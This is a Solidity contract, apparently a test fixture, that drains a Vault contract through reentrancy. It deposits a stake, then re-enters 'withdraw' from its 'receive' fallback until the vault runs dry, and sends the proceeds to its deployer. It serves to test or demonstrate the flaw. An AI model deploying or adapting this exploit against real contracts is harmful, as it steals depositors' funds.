// SPDX-License-Identifier: Apache-2.0 OR MIT
pragma solidity ^0.8.28;

import {Vault} from "./Vault.sol";

/// @title The attacker's own contract.
/// @notice `raid` deposits its stake into the vault and withdraws it again and again out of the vault's own payment, until
///         the vault cannot pay once more. The transaction that robs the vault is thus one `to` this contract.
/// @dev    Test traffic of the recorded scenario. Storage: 0 captain, 1 prey, 2 shares.
contract Raider {
    /// @notice Who deployed this, and gets the booty.
    address public captain;
    /// @notice The vault under attack; zero outside of `raid`.
    Vault public prey;
    /// @notice Shares that are withdrawn over and over.
    uint256 public shares;

    /// @notice Only the captain may do this.
    error NotCaptain();
    /// @notice The booty is below what the captain asked for.
    error PoorBooty(uint256 booty, uint256 wanted);
    /// @notice The captain refused the payment.
    error PaymentFailed();

    constructor() {
        captain = msg.sender;
    }

    /// @notice Robs `vault` with the wei sent along as stake.
    /// @param wanted Least profit in wei; less makes everything revert.
    function raid(Vault vault, uint256 wanted) external payable {
        if (msg.sender != captain) revert NotCaptain();
        prey = vault;
        shares = vault.deposit{value: msg.value}(address(this));
        vault.withdraw(shares);
        prey = Vault(payable(address(0)));
        uint256 held = address(this).balance;
        if (held < msg.value + wanted) revert PoorBooty(held - msg.value, wanted);
        (bool paid,) = captain.call{value: held}("");
        if (!paid) revert PaymentFailed();
    }

    /// @notice The vault pays: come back for more while it can pay.
    receive() external payable {
        if (address(prey).balance >= prey.convertToAssets(shares)) prey.withdraw(shares);
    }
}
